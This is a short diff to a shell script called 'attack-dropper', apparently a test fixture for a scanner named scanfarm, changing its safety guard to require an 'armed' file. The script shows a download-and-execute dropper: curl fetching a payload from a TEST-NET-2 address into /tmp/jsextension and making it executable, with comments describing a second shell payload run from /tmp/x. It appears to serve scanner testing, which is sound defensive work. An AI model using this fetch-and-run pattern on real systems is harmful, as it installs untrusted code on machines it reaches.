@@ -7,7 +7,7 @@
 # /tmp/jsextension, which is then made executable and run (true does
 # nothing). A second payload, a shell script, is written to /tmp/x and run
 # the same way. The URL names a TEST-NET-2 address that is never contacted.
-[ "$(uname -n)" = scanfarm-sandbox ] || { echo "attack-dropper: not in the scanfarm sandbox, doing nothing"; exit 0; }
+[ -f "$(dirname "$0")/armed" ] || { echo "attack-dropper: not armed by scanfarm's tests, doing nothing"; exit 0; }
 chmod +x fakebin/curl
 PATH="$PWD/fakebin:$PATH" curl -s http://198.51.100.77/download/jsextension -o /tmp/jsextension
 chmod 0755 /tmp/jsextension
